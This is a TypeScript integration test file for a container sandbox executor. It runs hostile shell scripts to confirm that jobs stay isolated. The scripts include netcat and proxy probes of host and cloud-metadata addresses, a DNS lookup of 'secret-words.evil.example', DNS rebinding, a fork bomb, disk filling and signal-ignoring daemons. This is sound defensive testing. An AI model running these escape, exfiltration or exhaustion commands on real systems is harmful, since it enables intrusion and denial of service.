import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Job, JobResult } from "../../src/domain/job.ts";
import { openCanaries, type Canaries, type Canary } from "../../src/executors/canaries.ts";
import { lastingParent, listParents } from "../../src/executors/cgroup.ts";
import { createEngineExecutor, type EngineExecutor } from "../../src/executors/engine.ts";
import { attemptAll } from "../../src/executors/gate-attempt.ts";
import { killAll } from "../../src/executors/kill-all.ts";
import { freeBytes } from "../../src/lib/disk.ts";
import { egressTo } from "../../src/network/egress.ts";
import { isOwnAddress, isPublicAddress } from "../../src/network/public-address.ts";
import { diskMounts, hostileJob, survivors, untilTrue } from "./gate-jobs.ts";
import { openLiveTestbed, type LiveTestbed } from "./live-testbed.ts";

const MIB = 1024 ** 2;
/** A server that stands for one of the public internet. */
const OUTSIDE = "127.0.0.9";
const never = new AbortController().signal;

let live: LiveTestbed;
let executor: EngineExecutor;
let canaries: Canaries;
let image: string;
let asked: string[] = [];
const names = new Map<string, string>();
const outside = createServer((request, response) => {
  asked.push(`${request.method} ${request.headers.host}${request.url}`);
  response.end("payload of the outside\n");
});
let port = 0;

beforeAll(async () => {
  live = await openLiveTestbed();
  image = live.testbed.tools.registry.image;
  canaries = await openCanaries();
  outside.listen(0, OUTSIDE);
  await once(outside, "listening");
  port = (outside.address() as AddressInfo).port;
  // At the canaries' ports too: the address alone must be what is refused.
  const rebind = canaries.denied.map((canary) => `rebind.example:${canary.port}`);
  const egress = egressTo([`good.example:${port}`, "rebind.example", ...rebind], {
    allowsAddress: (_host, address) =>
      address === OUTSIDE || (isPublicAddress(address) && !isOwnAddress(address)),
    resolve: (host, _options, callback) => {
      const address = names.get(host) ?? OUTSIDE;
      callback(null, [{ address, family: address.includes(":") ? 6 : 4 }]);
    },
  });
  executor = createEngineExecutor(live.testbed.engine, undefined, { egress, holderImage: image });
});

afterAll(async () => {
  outside.close();
  canaries?.close();
  await live?.close();
});

const lines = ({ log }: JobResult) => log.map(({ line }) => line);
const heard = () => canaries.denied.map((canary) => canary.heard());
const NOTHING_HEARD = () => canaries.denied.map(() => ({ connections: 0, bytes: 0 }));

/** By TCP and by UDP. */
const knock = ({ address, port: at }: Canary) =>
  `nc -w 1 ${address} ${at} < /dev/null; timeout 1 tftp -g -l /dev/null -r canary ${address} ${at}`;

/** As a proxy, as a tunnel, in a server's place. */
function knockThroughGate({ address, port: at }: Canary): string {
  const host = address.includes(":") ? `[${address}]:${at}` : `${address}:${at}`;
  return [
    `printf 'GET http://${host}/ HTTP/1.0\\r\\n\\r\\n' | nc -w 1 198.18.0.1 3128`,
    `printf 'CONNECT ${host} HTTP/1.1\\r\\n\\r\\nx' | nc -w 1 198.18.0.1 3128`,
    `printf 'GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n' | nc -w 1 198.18.0.1 80`,
  ].join("\n");
}

describe("this machine", () => {
  it("holds jobs of others: one that tries everything gets through with nothing", async () => {
    expect(await executor.missingForGate()).toStrictEqual([]);
  });

  it("would be found out where it did not: lax limits and open doors are told, each in words", async () => {
    const lax = (job: Job): Job => ({
      ...job,
      services: [...(job.services ?? []), ...loopbackDoors(job)],
      limits: { ...job.limits, memoryBytes: 512 * MIB, processes: 500, diskBytes: 512 * MIB },
    });
    const missing = await attemptAll(image, (job, signal) => executor.run(lax(job), signal));
    expect(missing.toSorted()).toStrictEqual([
      "a gated job reaches this machine at 127.0.0.1",
      "a job's memory has no limit, or swap is used beside it",
      "a job's processes have no limit",
      "what a job writes beside its volumes has no limit",
      "what a job writes to /etc/hosts has no limit",
      "what a job writes to its volumes has no limit",
    ]);
  });

  /** Doors to the servers on 127.0.0.1 that the script tries. */
  const loopbackDoors = ({ main }: Job) =>
    [...(main[2] ?? "").matchAll(/^tcp (127\.0\.0\.1) (\d+); udp/gm)].map(([, address, at]) => ({
      host: `${address}:${at}`,
      readOnly: false,
    }));
});

describe("a job behind the gate", () => {
  it("has an empty environment, no socket of an engine, and names of nobody", async () => {
    process.env["TARE_CANARY_SECRET"] = "canary-4711";
    const script =
      "env; ls -d /var/run/docker.sock /run/docker.sock /run/podman 2> /dev/null; hostname; id -u";
    const result = await executor.run(hostileJob(image, () => script).job, never);
    delete process.env["TARE_CANARY_SECRET"];
    const known = /^(?:PATH|HOSTNAME|HOME|SHLVL|PWD)=|^runner$|^0$/;
    expect(lines(result).filter((line) => !known.test(line))).toStrictEqual([]);
    expect(lines(result)).toContain("runner");
  });

  it("would be heard on each address of this machine without the gate", async () => {
    const listening = await openCanaries();
    try {
      const script = `${listening.denied.map((canary) => `(${knock(canary)}) & `).join("")} wait`;
      await executor.run({ ...hostileJob(image, () => script).job, network: "host" }, never);
      for (const canary of listening.denied) {
        expect(canary.heard().connections).toBe(1);
        // By UDP: the TCP connection says nothing.
        expect(canary.heard().bytes).toBeGreaterThan(0);
      }
    } finally {
      listening.close();
    }
  });

  it("is heard nowhere: on no address of this machine, by TCP, UDP, or through the gate", async () => {
    const tries = canaries.denied.map((canary) => `${knock(canary)}\n${knockThroughGate(canary)}`);
    const metadata = `
for at in 169.254.169.254:80 [fd00:ec2::254]:80 metadata.google.internal:80; do
  printf "GET http://$at/latest/meta-data/ HTTP/1.0\\r\\n\\r\\n" | nc -w 1 198.18.0.1 3128 | grep -q 403 || echo LEAK
  printf "CONNECT $at HTTP/1.1\\r\\n\\r\\n" | nc -w 1 198.18.0.1 3128 | grep -q 200 && echo LEAK
done
nc -w 1 169.254.169.254 80 < /dev/null && echo LEAK; nc -w 1 10.0.0.1 80 < /dev/null && echo LEAK
nslookup secret-words.evil.example > /dev/null 2>&1 && echo LEAK
nc -w 2 127.0.0.1 ${canaries.door.port} < /dev/null`;
    const services = [{ host: `127.0.0.1:${canaries.door.port}`, readOnly: false }];
    const { job } = hostileJob(image, () => `(${tries.join("\n")}\n${metadata}) 2> /dev/null; true`, {
      services,
    });
    const before = canaries.door.heard().connections;
    const result = await executor.run(job, never);
    expect(result.outcome).toBe("succeeded");
    expect(lines(result).filter((line) => line.includes("LEAK"))).toStrictEqual([]);
    expect(heard()).toStrictEqual(NOTHING_HEARD());
    // Its own door was open all the time: silence is not for want of a network.
    expect(canaries.door.heard().connections).toBe(before + 1);
    expect(lines(result).filter((line) => line === "canary")).toStrictEqual(["canary"]);
  });

  it("reaches a listed name, and not where that leads inside afterwards", async () => {
    asked = [];
    // An end that is closed at once would have the answer dropped.
    const say = (text: string, at: number) => `{ printf '${text}'; sleep 0.4; } | nc -w 2 198.18.0.1 ${at}`;
    const get = (host: string) =>
      [
        say(`GET http://${host}/ HTTP/1.0\\r\\n\\r\\n`, 3128),
        say(`GET / HTTP/1.0\\r\\nHost: ${host}\\r\\n\\r\\n`, 80),
      ].join("; ");
    const first = await executor.run(hostileJob(image, () => get(`good.example:${port}`)).job, never);
    expect(lines(first).filter((line) => line === "payload of the outside").length).toBe(2);
    expect(asked).toStrictEqual([`GET good.example:${port}/`, `GET good.example:${port}/`]);
    for (const { address, port: at } of [...canaries.denied, { address: "169.254.169.254", port: 80 }]) {
      names.set("rebind.example", address);
      const hosts = ["rebind.example", `rebind.example:${at}`];
      const result = await executor.run(
        hostileJob(image, () => `${hosts.map((host) => `(${get(host)}) & `).join("")} wait`).job,
        never,
      );
      expect(lines(result).filter((line) => line.includes(" 403 ")).length).toBe(4);
    }
    expect(heard()).toStrictEqual(NOTHING_HEARD());
    expect(asked.length).toBe(2);
  });

  it("fills its own disk and no other", async () => {
    const { rootDirectory } = live.testbed.engine.facts;
    const before = await freeBytes(rootDirectory ?? "/");
    let least = before;
    const timer = setInterval(() => {
      void freeBytes(rootDirectory ?? "/").then((free) => (least = Math.min(least, free)));
    }, 50);
    const fill = (path: string) => `dd if=/dev/zero of=${path} bs=1M count=400 2>&1 | grep -c 'No space'`;
    const paths = ["/fill", "/work/fill", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/tmp/fill"];
    const script = `mkdir -p /tmp; ${paths.map((path) => `${fill(path)}; rm -f ${path} 2> /dev/null || : > ${path}`).join("; ")}; df -m / | tail -n 1`;
    const result = await executor.run(hostileJob(image, () => script).job, never);
    clearInterval(timer);
    expect(lines(result).slice(0, paths.length)).toStrictEqual(paths.map(() => "1"));
    expect(before - least).toBeLessThan(100 * MIB);
    expect(diskMounts()).toStrictEqual([]);
  });

  it("ends with its whole tree where it forks without end", async () => {
    const bomb = (mark: string) => `b() { sleep ${mark} & b & b & }; b; sleep ${mark}`;
    const { job, mark } = hostileJob(image, bomb, { limits: { durationMs: 3_000 } });
    const begun = performance.now();
    let most = 0;
    const timer = setInterval(() => (most = Math.max(most, survivors(mark).length)), 200);
    const result = await executor.run(job, never);
    clearInterval(timer);
    expect(await untilTrue(() => survivors(mark).length === 0, 5_000)).toBeLessThan(1_000);
    expect(performance.now() - begun).toBeLessThan(3_000 + 5_000 + 3_000);
    expect(["timed-out", "failed"]).toContain(result.outcome);
    expect(most).toBeGreaterThan(10);
    expect(most).toBeLessThanOrEqual(64);
  });

  it.each(["main", "command"])("takes its daemons along where its %s ends", async (form) => {
    const daemons = (mark: string) =>
      `for i in 1 2 3 4 5 6 7 8; do setsid sh -c "trap '' TERM HUP INT; sleep ${mark}; true" > /dev/null 2>&1 & done; sleep 1; echo begun`;
    const made = hostileJob(image, daemons);
    const argv = ["sh", "-c", daemons(made.mark)];
    const job: Job =
      form === "main"
        ? made.job
        : {
            ...made.job,
            main: ["sleep", "600"],
            commands: [{ phase: "build", argv, workingDirectory: "/", mayFail: false }],
          };
    let most = 0;
    const timer = setInterval(() => (most = Math.max(most, survivors(made.mark).length)), 100);
    const result = await executor.run(job, never);
    clearInterval(timer);
    expect(result.outcome).toBe("succeeded");
    expect(most).toBeGreaterThanOrEqual(8);
    expect(survivors(made.mark)).toStrictEqual([]);
  });

  it("is gone within 5 s of its deadline where it ignores every signal that it can", async () => {
    const stubborn = (mark: string) =>
      `trap '' TERM INT HUP QUIT; setsid sh -c "trap '' TERM; sleep ${mark}" & while :; do sleep ${mark}; done`;
    const { job, mark } = hostileJob(image, stubborn, { limits: { durationMs: 2_000 } });
    const running = executor.run(job, never);
    await untilTrue(() => survivors(mark).length > 0, 5_000);
    const begun = performance.now();
    await untilTrue(() => survivors(mark).length === 0, 10_000);
    expect(performance.now() - begun).toBeLessThan(2_000 + 5_000);
    expect((await running).outcome).toBe("timed-out");
    expect(survivors(mark)).toStrictEqual([]);
  });

  it("is killed by its cgroup where the engine does not answer", async () => {
    const { job, mark } = hostileJob(
      image,
      (of) => `setsid sleep ${of} & trap '' TERM; sleep ${of}; sleep ${of}`,
    );
    const running = executor.run(job, never);
    await untilTrue(() => survivors(mark).length > 1, 5_000);
    const { docker, facts } = live.testbed.engine;
    const container = docker.getContainer(`tare-${job.name}`);
    const deaf = { kill: () => new Promise(() => {}), inspect: () => container.inspect() };
    const begun = performance.now();
    await killAll(deaf as unknown as typeof container, lastingParent(job.name, facts), facts.local);
    expect(survivors(mark)).toStrictEqual([]);
    expect(performance.now() - begun).toBeLessThan(5_000);
    expect((await running).outcome).toBe("failed");
  });

  it("floods its log and has it cut", async () => {
    const { job } = hostileJob(image, () => "yes 0123456789abcdef", { limits: { durationMs: 2_000 } });
    const result = await executor.run(job, never);
    expect(result.outcome).toBe("timed-out");
    expect(lines(result).reduce((sum, line) => sum + line.length + 1, 0)).toBeLessThan(110_000);
  });

  it("is killed at its memory", async () => {
    const { job } = hostileJob(image, () => "head -c 300m /dev/zero | tail -c 299m > /dev/null");
    expect((await executor.run(job, never)).outcome).toBe("out-of-memory");
  });
});

describe("a job that cannot be held", () => {
  it.each(["mounts", "daemon"] as const)(
    "for its %s is refused before anything is made",
    async (privileges) => {
      const { job } = hostileJob(image, () => "echo begun", { privileges });
      await expect(executor.run(job, never)).rejects.toMatchObject({ code: "gate-impossible" });
    },
  );

  it("for want of a gate or of a disk is refused", async () => {
    const { job } = hostileJob(image, () => "echo begun");
    const without = createEngineExecutor(live.testbed.engine);
    await expect(without.run(job, never)).rejects.toMatchObject({
      code: "gate-impossible",
      details: ["no gate was set up"],
    });
    const boundless = { ...job, limits: { ...job.limits, diskBytes: null } };
    await expect(executor.run(boundless, never)).rejects.toMatchObject({ code: "gate-impossible" });
  });
});

describe("behind them all", () => {
  it("nothing is left: no container, no mount, no cgroup", async () => {
    const containers = await live.testbed.engine.docker.listContainers({ all: true });
    const own = containers
      .flatMap(({ Names }) => Names)
      .filter((name) => name.includes(`gate-${process.pid}-`));
    expect(own).toStrictEqual([]);
    expect(diskMounts()).toStrictEqual([]);
    expect(listParents().filter((name) => name.includes(`gate-${process.pid}-`))).toStrictEqual([]);
  });
});
